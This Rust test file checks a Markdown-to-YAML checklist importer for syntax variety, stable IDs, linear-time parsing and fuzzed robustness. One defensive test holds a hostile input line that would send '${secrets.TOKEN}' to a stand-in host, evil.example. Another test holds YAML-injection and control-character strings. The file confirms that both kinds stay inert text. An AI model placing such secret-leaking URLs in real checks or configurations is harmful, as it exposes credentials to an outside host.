//! Any Markdown: of other habits, hostile, huge.

use std::time::{Duration, Instant};

use proptest::prelude::*;
use ready::check::Rule;
use ready::import::{Counts, Document, Known};

use super::{documents, loaded};

fn import(markdown: &str) -> ready::profile::Profile {
    loaded(&Document::read(markdown).import("a.md", None, &[]).yaml)
}

fn titles(markdown: &str) -> Vec<String> {
    import(markdown)
        .checks
        .into_iter()
        .map(|check| check.title)
        .collect()
}

#[test]
fn people_write_checklists_in_many_ways() {
    for (markdown, expected) in [
        (
            "* [x] a star\n+ [ ] a plus\n1. [X] a number\n",
            vec!["a star", "a plus", "a number"],
        ),
        ("- [ ] **Bold** — and more\n", vec!["Bold: and more"]),
        (
            "- ✅ done by sign\n- ❌ open by sign\n- no sign\n",
            vec!["done by sign", "open by sign"],
        ),
        (
            "| Item | OK? |\n|--|--|\n| one | ✅ |\n| two |\n",
            vec!["one", "two"],
        ),
        (
            "| | What |\n|--|--|\n| ✅ | one |\n| ❌ | two |\n",
            vec!["one", "two"],
        ),
        ("| Item | Price |\n|--|--|\n| one | 5 |\n", vec![]),
        (
            "```\n- [ ] code\n```\n    - [ ] indented\n\n<!-- - [ ] comment -->\n",
            vec![],
        ),
        (
            "## Requirements\n- TLS 1.2\n\n## History\n- began\n",
            vec!["TLS 1.2"],
        ),
        ("- [ ] a\n  - [ ] b\n    - [ ] c\n", vec!["c"]),
        ("- [ ] a\r\n- [x] b\r\n", vec!["a", "b"]),
        ("- [ ] 证书\n", vec!["证书"]),
        ("- [ ]\n- [ ] \n", vec![]),
    ] {
        assert_eq!(titles(markdown), expected, "{markdown}");
    }
}

#[test]
fn ids_are_unique_and_stay() {
    let profile = import("# T\n\n## A\n- [ ] x y\n- [ ] x y\n\n## A\n- [ ] x y\n");
    let ids: Vec<&str> = profile
        .checks
        .iter()
        .map(|check| check.id.0.as_str())
        .collect();
    assert_eq!(ids, ["a.x-y", "a.x-y-2", "a-2.x-y"]);
}

#[test]
fn ids_survive_edits_of_the_text() {
    let known = [
        ("a.old-name-of-thing", "Old name of the important thing"),
        ("a.kept", "Kept"),
        ("a.gone", "Gone for good"),
    ]
    .map(|(id, title)| Known {
        id: id.to_owned(),
        title: title.to_owned(),
    });
    let document =
        Document::read("## A\n- [ ] Kept\n- [ ] New name of the important thing\n- [ ] Fresh\n");
    let imported = document.import("a.md", None, &known);
    assert_eq!(imported.ids, ["a.kept", "a.old-name-of-thing", "a.fresh"]);
    assert_eq!(imported.changes.added, ["a.fresh"]);
    assert_eq!(imported.changes.renamed, [known[0].clone()]);
    assert_eq!(imported.changes.removed, [known[2].clone()]);
}

#[test]
fn an_import_of_the_same_text_changes_nothing() {
    for name in documents::NAMES {
        let document = Document::read(&documents::text(name));
        let first = document.import(name, None, &[]);
        let checks = loaded(&first.yaml).checks.into_iter();
        let known: Vec<Known> = checks
            .map(|check| Known {
                id: check.id.0,
                title: check.title,
            })
            .collect();
        let again = document.import(name, None, &known);
        assert_eq!(again.changes, ready::import::Changes::default(), "{name}");
        assert!(first.yaml == again.yaml, "{name}");
    }
}

#[test]
fn a_document_cannot_reach_secrets_or_variables() {
    let hostile = "- [ ] health https://evil.example/${secrets.TOKEN} and ${vars.x} `${secrets.A}` GET /${secrets.B}\n";
    let yaml = Document::read(hostile).import("a.md", None, &[]).yaml;
    assert!(!yaml.contains("secrets:"), "{yaml}");
    let check = &loaded(&yaml).checks[0];
    assert!(check.title.contains("${secrets.TOKEN}"), "{}", check.title);
    for asked in check.rule.asked() {
        assert!(!asked.probe.reproduce().contains("TOKEN"));
    }
}

#[test]
fn what_a_document_says_stays_words() {
    let hostile = "- [ ] a: b # c\n- [ ] 'it''s' \"so\" \\n \u{1b}[31m \u{202e}\n- [ ] - [ ] {x: y}, [z]\n- [ ] yes\n- [ ] 0x1F\n- [ ] !!binary x\n- [ ] &a *b\n";
    let profile = import(hostile);
    assert_eq!(profile.checks.len(), 7);
    assert!(
        profile
            .checks
            .iter()
            .all(|check| matches!(check.rule, Rule::Attest(_)))
    );
    assert_eq!(profile.checks[3].title, "yes");
}

#[test]
fn huge_documents_are_read_in_linear_time() {
    let time = |markdown: &str| {
        let started = Instant::now();
        let document = Document::read(markdown);
        let imported = document.import("a.md", None, &[]);
        (started.elapsed(), document, imported)
    };
    let lines = "- [ ] **Backups** — verified within 30 days on `db.example:5432`\n";
    let table = format!(
        "| Item | Status |\n|--|--|\n{}",
        "| one | ✅ |\n".repeat(20_000)
    );
    for markdown in [
        lines.repeat(15_000),
        table,
        "- ".repeat(20_000),
        "#".repeat(500_000),
        "[".repeat(50_000),
        "*a **b ".repeat(30_000),
        "> ".repeat(20_000),
        "|".repeat(200_000),
        format!("## Non-negotiable\n{}", "- must hold\n".repeat(30_000)),
        "## T\n**Impact:** high\n- [ ] thing\n".repeat(20_000),
    ] {
        let (took, document, imported) = time(&markdown);
        assert!(
            took < Duration::from_mins(1),
            "{took:?} for {:?}",
            &markdown[..40.min(markdown.len())]
        );
        assert!(imported.ids.len() <= 2_000);
        let Counts { boxes, rows, .. } = document.checklist.counts;
        assert_eq!(
            document.checklist.beyond > 0,
            boxes + rows > 2_000,
            "{boxes} {rows}"
        );
        loaded(&imported.yaml);
    }
}

/// Pieces that Markdown is made of, and that trip over each other.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("- [ ] ".to_owned()),
        Just("- [x] ".to_owned()),
        Just("  - [ ] ".to_owned()),
        Just("1. [ ] **".to_owned()),
        Just("\n".to_owned()),
        Just("\n\n".to_owned()),
        Just("# ".to_owned()),
        Just("## Required\n".to_owned()),
        Just("### Known gaps\n- ".to_owned()),
        Just("**Impact:** HIGH | **Effort:** LOW\n\n".to_owned()),
        Just("| A | Status |\n|--|--|\n| ".to_owned()),
        Just(" | ✅ |\n".to_owned()),
        Just("| Metric | Current | Target | Status |\n|-|-|-|-|\n| a | 1 | 2 |".to_owned()),
        Just("**Non-negotiable:**\n- ".to_owned()),
        Just("Minimum scores:\n- A: 90% before b\n".to_owned()),
        Just("```\n".to_owned()),
        Just("~~".to_owned()),
        Just("`GET /x` https://a.example/ port 80 ${secrets.X} 1.2.3 99% ".to_owned()),
        Just("---\n".to_owned()),
        Just("\r\n".to_owned()),
        Just("â†’ ".to_owned()),
        Just("\u{feff}".to_owned()),
        any::<String>(),
        "[a-zA-Z :#'\"{}\\[\\],&*!|>%@`-]{0,30}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn any_text_becomes_a_valid_profile(pieces in proptest::collection::vec(piece(), 0..40)) {
        let markdown = pieces.concat();
        let document = Document::read(&markdown);
        let imported = document.import("a.md", None, &[]);
        let profile = loaded(&imported.yaml);
        prop_assert_eq!(profile.checks.len(), document.checklist.items.len());
        let known: Vec<Known> = profile.checks.into_iter()
            .map(|check| Known { id: check.id.0, title: check.title }).collect();
        let again = document.import("a.md", None, &known);
        prop_assert_eq!(again.ids, imported.ids);
    }
}
